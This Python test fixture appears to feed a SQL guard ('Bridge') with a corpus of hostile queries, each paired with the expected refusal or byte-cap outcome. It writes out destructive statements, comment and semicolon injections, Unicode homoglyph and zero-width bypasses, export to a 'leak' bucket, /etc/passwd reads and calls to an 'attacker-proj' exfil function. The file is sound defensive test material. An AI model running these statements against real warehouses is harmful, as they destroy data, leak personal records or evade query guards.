"""Hostile and tricky SQL for the guard corpus, each with the outcome Bridge must give.

``REJECT`` statements must be refused before any warehouse call. ``CAP`` statements are read-only
SELECTs over the team's own tables whose byte estimate is over the (lowered) team cap: they may be
dry-run, but must end in ``byte_cap_exceeded`` and never execute. Their aliases contain
``boom`` so a test can see whether the warehouse ever executed one.
"""

from __future__ import annotations

from dataclasses import dataclass

REJECT, CAP = "reject", "cap"
OI = "`demo.thelook_ecommerce.order_items`"
USERS = "demo.thelook_ecommerce.users"
OTHER_CONNECTION_TABLE = "bprod.sales.secret"  # a table of team B's own warehouse connection


@dataclass(frozen=True)
class Hostile:
    category: str
    sql: str
    outcome: str = REJECT


def _cases() -> list[Hostile]:
    out: list[Hostile] = []

    def add(category: str, *sqls: str, outcome: str = REJECT) -> None:
        out.extend(Hostile(category, s, outcome) for s in sqls)

    add(
        "dml",
        f"INSERT INTO {USERS} (id) VALUES (1)",
        f"INSERT INTO {USERS} SELECT * FROM {USERS}",
        f"UPDATE {USERS} SET age = 0 WHERE TRUE",
        f"UPDATE {USERS} u SET age = 0 FROM demo.thelook_ecommerce.orders o WHERE o.user_id = u.id",
        f"DELETE FROM {USERS} WHERE TRUE",
        f"DELETE {USERS} WHERE id > 0",
        f"MERGE {USERS} t USING demo.thelook_ecommerce.orders s ON t.id = s.user_id WHEN MATCHED THEN DELETE",
        f"TRUNCATE TABLE {USERS}",
    )
    add(
        "ddl",
        f"CREATE TABLE demo.thelook_ecommerce.copy AS SELECT * FROM {USERS}",
        "CREATE OR REPLACE VIEW demo.thelook_ecommerce.v AS SELECT 1 AS x",
        "CREATE TEMP TABLE t AS SELECT 1 AS x",
        "CREATE SCHEMA demo.evil",
        "CREATE TEMP FUNCTION f(x INT64) AS (x); SELECT f(1) AS y",
        f"CREATE MODEL demo.thelook_ecommerce.m OPTIONS(model_type='linear_reg') AS SELECT age AS label FROM {USERS}",
        f"CREATE SNAPSHOT TABLE demo.thelook_ecommerce.snap CLONE {USERS}",
        f"DROP TABLE {USERS}",
        "DROP TABLE users",
        "DROP SCHEMA demo.thelook_ecommerce CASCADE",
        f"ALTER TABLE {USERS} ADD COLUMN x INT64",
        f"ALTER TABLE {USERS} RENAME TO gone",
        "ALTER SCHEMA demo.thelook_ecommerce SET OPTIONS (default_table_expiration_days = 0.01)",
        "UNDROP SCHEMA demo.thelook_ecommerce",
    )
    add(
        "dcl",
        "GRANT `roles/bigquery.admin` ON SCHEMA demo.thelook_ecommerce TO 'user:x@y.z'",
        f"REVOKE `roles/bigquery.dataViewer` ON TABLE {USERS} FROM 'user:x@y.z'",
    )
    add(
        "scripting",
        "DECLARE x INT64 DEFAULT 1",
        "SET @@dataset_project_id = 'other'",
        "BEGIN SELECT 1; END",
        "BEGIN TRANSACTION",
        "COMMIT TRANSACTION",
        "IF TRUE THEN SELECT 1; END IF",
        "LOOP SELECT 1; END LOOP",
        "WHILE TRUE DO SELECT 1; END WHILE",
        f"EXECUTE IMMEDIATE 'DROP TABLE {USERS}'",
        "CALL demo.thelook_ecommerce.proc()",
        "ASSERT FALSE AS 'boom'",
        "RAISE USING MESSAGE = 'x'",
        "SELECT @@project_id AS p",
    )
    add(
        "multi-statement",
        "SELECT 1 AS a; SELECT 2 AS b",
        f"SELECT 1 AS a /* harmless */;DROP TABLE {USERS}",
        f"SELECT 1 AS a -- comment\n; DELETE FROM {USERS} WHERE TRUE",
        f"SELECT ';' AS s; DROP TABLE {USERS}",
        f"SELECT 1 AS a;\n\n\nINSERT INTO {USERS} (id) VALUES (1);",
        f"SELECT COUNT(*) AS n FROM {OI};;TRUNCATE TABLE {USERS}",
    )
    add(
        "export-load",
        f"EXPORT DATA OPTIONS(uri='gs://leak/*.csv', format='CSV') AS SELECT * FROM {USERS}",
        f"LOAD DATA INTO {USERS} FROM FILES(format='CSV', uris=['gs://x/*'])",
        "EXPORT MODEL demo.thelook_ecommerce.m OPTIONS(uri='gs://leak/m')",
    )
    add(
        "external",
        "SELECT * FROM EXTERNAL_QUERY('us.pg', 'SELECT * FROM secrets')",
        f"SELECT u.id FROM {USERS} AS u, (SELECT * FROM EXTERNAL_QUERY('c', 'x')) AS e",
        f"SELECT id FROM {USERS} WHERE id IN (SELECT id FROM EXTERNAL_QUERY('c', 'SELECT 1 AS id'))",
        "CREATE EXTERNAL TABLE demo.thelook_ecommerce.ext OPTIONS(format='CSV', uris=['gs://x/*'])",
        f"SELECT * FROM ML.PREDICT(MODEL demo.thelook_ecommerce.m, TABLE {USERS})",
        f"SELECT * FROM APPENDS(TABLE {USERS}, NULL, NULL)",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM `/etc/passwd`",
        "SELECT * FROM demo.thelook_ecommerce.`/etc/passwd`",
        "SELECT demo.thelook_ecommerce.my_udf(1) AS x",
    )
    add(
        "cross-project",
        "SELECT * FROM `other-project.hr.salaries`",
        "SELECT * FROM users",
        "SELECT * FROM hr.salaries",
        f"SELECT u.id FROM {USERS} AS u JOIN `other.hr.salaries` AS s USING (id)",
        "WITH s AS (SELECT * FROM `other.hr.salaries`) SELECT * FROM s",
        "SELECT (SELECT MAX(pay) FROM other.hr.salaries) AS m",
        f"WITH users AS (SELECT * FROM `other.hr.users`) SELECT * FROM {USERS}",
        f"SELECT id FROM {USERS} UNION ALL SELECT id FROM `other.hr.salaries`",
        f"SELECT * FROM `{OTHER_CONNECTION_TABLE}`",
        "SELECT * FROM demo._bridge.tables",
        "SELECT * FROM demo.thelook_ecommerce.events_*",
        "SELECT * FROM `demo.thelook_ecommerce.events_*` WHERE _TABLE_SUFFIX > '2024'",
    )
    add(
        "information-schema",
        "SELECT * FROM demo.thelook_ecommerce.INFORMATION_SCHEMA.TABLES",
        "SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_PROJECT",
        "SELECT * FROM `other-project.hr.INFORMATION_SCHEMA.COLUMNS`",
        "SELECT * FROM demo.INFORMATION_SCHEMA.SCHEMATA",
        "SELECT * FROM `demo.thelook_ecommerce.__TABLES__`",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM duckdb_tables()",
        "SELECT * FROM pg_catalog.pg_tables",
    )
    add(
        "comment-quoting",
        f"SELECT * FROM `{USERS}; DROP TABLE {USERS}`",
        f"SELECT 1 AS x /* */ ; /* */ DROP TABLE {USERS}",
        f"SELECT 1 AS x --\nDROP TABLE {USERS}",
        f"SELECT 1 AS x #\n; DELETE FROM {USERS} WHERE TRUE",
        f"/* SELECT */ DELETE FROM {USERS} WHERE TRUE",
        f"SELECT * FROM `demo`.`thelook_ecommerce`.`users`; DELETE FROM {USERS} WHERE TRUE",
        f"SELECT 1 AS a INTO newtable FROM {USERS}",
        f"SELECT id FROM {USERS} FOR UPDATE",
    )
    add(
        "unicode",
        "SELECT * FROM `demo.thelook_ecommerce.u\u0455ers`",  # Cyrillic dze for "s"
        "SELECT * FROM demo.thelook_ecommerce.us\u0435rs",  # Cyrillic ie for "e"
        f"\uff24\uff32\uff2f\uff30 TABLE {USERS}",  # fullwidth DROP
        f"DR\u200bOP TABLE {USERS}",  # zero-width space
        f"SELECT 1 AS a\u037e DROP TABLE {USERS}",  # Greek question mark looks like ';'
        f"SELECT 1 AS a\uff1b DROP TABLE {USERS}",  # fullwidth semicolon
        "SELECT * FROM `demo.thelook_ecommerce.users\u202e`",  # right-to-left override
    )
    add(
        "size",
        "SELECT " + "(" * 3000 + "1" + ")" * 3000 + " AS deep",
        "SELECT 1 AS x " + "-- padding\n" * 10_000,
        "",
        "   ;  ",
    )
    add(  # joins without a real condition are refused by the guard, whatever they would scan
        "huge-cross-join",
        f"SELECT boom1.*, boom2.* FROM {OI} AS boom1 CROSS JOIN {OI} AS boom2",
        f"SELECT boom1.*, boom2.*, boom3.* FROM {OI} AS boom1, {OI} AS boom2, {OI} AS boom3",
        f"SELECT boom1.*, boom2.* FROM {OI} AS boom1 CROSS JOIN `demo.thelook_ecommerce.events` AS boom2",
        f"SELECT boom1.*, boom2.* FROM {OI} AS boom1 JOIN `demo.thelook_ecommerce.users` AS boom2 ON TRUE",
        f"SELECT boom1.id FROM {OI} AS boom1 JOIN {OI} AS boom2 ON 1 = 1",
    )
    add(  # second round: a CTE name is a CTE only inside the scope its WITH covers
        "scoped-cte",
        "SELECT name AS boom FROM (WITH duckdb_settings AS (SELECT 'x' AS name) SELECT name FROM duckdb_settings)"
        " UNION ALL SELECT name FROM duckdb_settings",
        "SELECT (SELECT COUNT(*) FROM duckdb_tables) AS boom FROM (WITH duckdb_tables AS (SELECT 1 AS n) SELECT n"
        " FROM duckdb_tables)",
        "WITH duckdb_columns AS (SELECT * FROM duckdb_columns) SELECT * FROM duckdb_columns",
        "SELECT * FROM (WITH t AS (SELECT 1 AS n) SELECT n FROM t) WHERE EXISTS (SELECT 1 FROM t)",
        "SELECT boom FROM (SELECT 1 AS boom FROM (WITH duckdb_views AS (SELECT 1 AS x) SELECT x FROM duckdb_views))"
        " JOIN duckdb_views USING (boom)",
        "WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS n) SELECT * FROM a",
    )
    add(  # user-defined and other projects' functions, in every quoting form
        "udf",
        f"SELECT `attacker-proj.ds.exfil`(email) AS boom FROM {USERS}",
        f"SELECT SAFE.`attacker-proj.ds.exfil`(email) AS boom FROM {USERS}",
        f"SELECT `attacker-proj`.ds.exfil(email) AS boom FROM {USERS}",
        f"SELECT `attacker-proj`.`ds`.`exfil`(email) AS boom FROM {USERS}",
        f"SELECT SAFE.ds.exfil(email) AS boom FROM {USERS}",
        f"SELECT `ds.exfil`(email) AS boom FROM {USERS}",
        f"SELECT `demo.thelook_ecommerce.exfil`(email) AS boom FROM {USERS}",
        "SELECT current_setting('memory_limit') AS boom",
        "SELECT getenv('HOME') AS boom",
    )
    add(  # cross joins in disguise: generated UNNEST, conditions true of every pair
        "hidden-cross-join",
        f"SELECT COUNT(*) AS boom FROM {OI} AS a CROSS JOIN UNNEST(GENERATE_ARRAY(1, 100000)) AS n",
        f"SELECT COUNT(*) AS boom FROM {OI} AS a, UNNEST(GENERATE_ARRAY(1, 100000)) AS n",
        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON a.id = a.id",
        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON (a.id = a.id) AND TRUE",
        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON a.id = a.order_id",
        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON a.id = b.id OR TRUE",
        f"SELECT COUNT(*) AS boom FROM {OI} AS a JOIN {OI} AS b ON a.id <> b.id",
        f"SELECT COUNT(*) AS boom FROM {OI} AS a CROSS JOIN UNNEST(ARRAY(SELECT id FROM {OI})) AS n",
    )
    add(  # a huge join with a condition is legal SQL: the byte cap stops it before it runs
        "huge-join",
        f"SELECT boom1.*, boom2.* FROM {OI} AS boom1 JOIN {OI} AS boom2 ON boom1.user_id = boom2.user_id",
        f"SELECT boom1.*, boom2.* FROM {OI} AS boom1 JOIN `demo.thelook_ecommerce.events` AS boom2 "
        "ON boom1.user_id = boom2.user_id",
        f"SELECT boom1.*, boom2.* FROM {OI} AS boom1 JOIN `demo.thelook_ecommerce.users` AS boom2 "
        "ON boom1.user_id >= boom2.id",
        outcome=CAP,
    )
    return out


CORPUS: tuple[Hostile, ...] = tuple(_cases())

# A row-exploding cross join that reads no column bytes: BigQuery bills 0 bytes for COUNT(*), so the
# byte cap cannot stop it; only refusing it (or a query timeout) can.
ZERO_BYTE_CROSS_JOIN = (
    "SELECT COUNT(*) AS boom FROM `demo.thelook_ecommerce.events` AS boom1 "
    "CROSS JOIN `demo.thelook_ecommerce.events` AS boom2 CROSS JOIN `demo.thelook_ecommerce.events` AS boom3"
)
